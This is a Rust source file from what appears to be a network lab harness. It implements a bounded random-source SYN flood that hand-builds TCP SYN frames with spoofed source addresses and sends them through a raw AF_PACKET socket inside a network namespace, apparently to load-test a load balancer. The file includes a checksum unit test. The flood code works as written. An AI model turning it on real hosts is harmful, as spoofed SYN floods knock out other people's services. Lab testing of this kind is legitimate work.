//! A random-source SYN flood for the labs: raw Ethernet frames sent from a namespace's
//! interface with an AF_PACKET socket, each a TCP SYN to one IPv4 address and port from
//! a random source address (in 198.18.0.0/15, the benchmarking range) and port. A
//! bounded loop: `frames` frames, then it returns.

use std::net::SocketAddrV4;

use anyhow::{bail, Context, Result};

use crate::lab::in_netns;

/// Where the flood's frames go.
#[derive(Clone, Copy, Debug)]
pub struct SynFlood {
    /// The sender's MAC (the interface's own).
    pub src_mac: [u8; 6],
    /// The next hop's MAC (the load balancer's interface).
    pub dst_mac: [u8; 6],
    /// The VIP and port flooded.
    pub dst: SocketAddrV4,
}

/// A MAC written `aa:bb:cc:dd:ee:ff`, as `ip link` shows it.
pub fn parse_mac(text: &str) -> Result<[u8; 6]> {
    let bytes: Vec<u8> = text
        .split(':')
        .map(|b| u8::from_str_radix(b, 16))
        .collect::<Result<_, _>>()
        .with_context(|| format!("{text:?} is not a MAC address"))?;
    bytes
        .try_into()
        .map_err(|_| anyhow::anyhow!("{text:?} is not a MAC address"))
}

/// Frame length: Ethernet, IPv4, TCP, no options, no payload.
const FRAME_LEN: usize = 14 + 20 + 20;

/// The Internet checksum of `words` (folded, complemented).
fn checksum(sum: u32) -> u16 {
    let mut s = sum;
    while s > 0xffff {
        s = (s & 0xffff) + (s >> 16);
    }
    !(s as u16)
}

fn sum_bytes(bytes: &[u8]) -> u32 {
    bytes
        .chunks(2)
        .map(|c| u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)])))
        .sum()
}

impl SynFlood {
    /// One SYN from `src`:`sport`, with both checksums right (a receiver's stack takes it
    /// as a real connection attempt).
    pub fn frame(&self, src: [u8; 4], sport: u16, seq: u32) -> [u8; FRAME_LEN] {
        let mut f = [0u8; FRAME_LEN];
        f[0..6].copy_from_slice(&self.dst_mac);
        f[6..12].copy_from_slice(&self.src_mac);
        f[12..14].copy_from_slice(&0x0800u16.to_be_bytes());
        let dst = self.dst.ip().octets();
        let ip = &mut f[14..34];
        ip[0] = 0x45;
        ip[2..4].copy_from_slice(&40u16.to_be_bytes());
        ip[8] = 64;
        ip[9] = 6;
        ip[12..16].copy_from_slice(&src);
        ip[16..20].copy_from_slice(&dst);
        let ip_check = checksum(sum_bytes(ip));
        ip[10..12].copy_from_slice(&ip_check.to_be_bytes());
        let tcp = &mut f[34..54];
        tcp[0..2].copy_from_slice(&sport.to_be_bytes());
        tcp[2..4].copy_from_slice(&self.dst.port().to_be_bytes());
        tcp[4..8].copy_from_slice(&seq.to_be_bytes());
        tcp[12] = 5 << 4;
        tcp[13] = 0x02;
        tcp[14..16].copy_from_slice(&64240u16.to_be_bytes());
        let pseudo = sum_bytes(&src) + sum_bytes(&dst) + 6 + 20;
        let tcp_check = checksum(pseudo + sum_bytes(tcp));
        tcp[16..18].copy_from_slice(&tcp_check.to_be_bytes());
        f
    }
}

/// Sends `frames` SYNs of `flood` out of `ifname` in namespace `ns`, sources drawn from
/// `seed`. Returns how many the kernel took (a full queue refuses some; those are
/// retried once after a yield, then skipped) and how long it took.
pub fn syn_flood(
    ns: &str,
    ifname: &str,
    flood: SynFlood,
    frames: u64,
    seed: u64,
) -> Result<(u64, std::time::Duration)> {
    let ifname = std::ffi::CString::new(ifname)?;
    let ns_name = ns.to_string();
    in_netns(ns, move || {
        // SAFETY: plain socket calls; the fd is closed below.
        let fd = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW, 0) };
        if fd < 0 {
            return Err(std::io::Error::last_os_error()).context("AF_PACKET socket");
        }
        let index = unsafe { libc::if_nametoindex(ifname.as_ptr()) };
        if index == 0 {
            unsafe { libc::close(fd) };
            bail!("no interface {ifname:?} in {ns_name}");
        }
        // SAFETY: zero is a valid sockaddr_ll.
        let mut to: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
        to.sll_family = libc::AF_PACKET as u16;
        to.sll_ifindex = index as i32;
        to.sll_halen = 6;
        to.sll_addr[..6].copy_from_slice(&flood.dst_mac);
        let mut state = seed | 1;
        let mut next = || {
            // xorshift64: reproducible from the seed, cheap.
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state
        };
        let start = std::time::Instant::now();
        let mut sent = 0;
        for _ in 0..frames {
            let r = next();
            // 198.18.0.0/15.
            let src = [198, 18 + (r >> 16 & 1) as u8, (r >> 8) as u8, r as u8];
            let frame = flood.frame(src, 1024 + (r >> 24) as u16 % 60_000, (r >> 32) as u32);
            for attempt in 0..2 {
                // SAFETY: a valid buffer and address of the stated lengths.
                let n = unsafe {
                    libc::sendto(
                        fd,
                        frame.as_ptr().cast(),
                        frame.len(),
                        0,
                        (&to as *const libc::sockaddr_ll).cast(),
                        std::mem::size_of::<libc::sockaddr_ll>() as u32,
                    )
                };
                if n == frame.len() as isize {
                    sent += 1;
                    break;
                }
                if attempt == 0 {
                    std::thread::yield_now();
                }
            }
        }
        let took = start.elapsed();
        unsafe { libc::close(fd) };
        Ok((sent, took))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_syn_has_both_checksums_right() {
        let flood = SynFlood {
            src_mac: [2, 0, 0, 0, 0, 0x10],
            dst_mac: [2, 0, 0, 0, 0, 2],
            dst: "10.112.0.100:80".parse().unwrap(),
        };
        let f = flood.frame([198, 18, 1, 2], 4321, 7);
        // A header with its checksum sums to 0xffff.
        assert_eq!(checksum(sum_bytes(&f[14..34])), 0);
        let pseudo = sum_bytes(&f[26..34]) + 6 + 20;
        assert_eq!(checksum(pseudo + sum_bytes(&f[34..54])), 0);
        assert_eq!(f[47], 0x02, "SYN");
        assert_eq!(&f[36..38], &80u16.to_be_bytes());
        assert_eq!(parse_mac("02:00:00:00:00:0a").unwrap(), [2, 0, 0, 0, 0, 10]);
        assert!(parse_mac("02:00").is_err());
    }
}
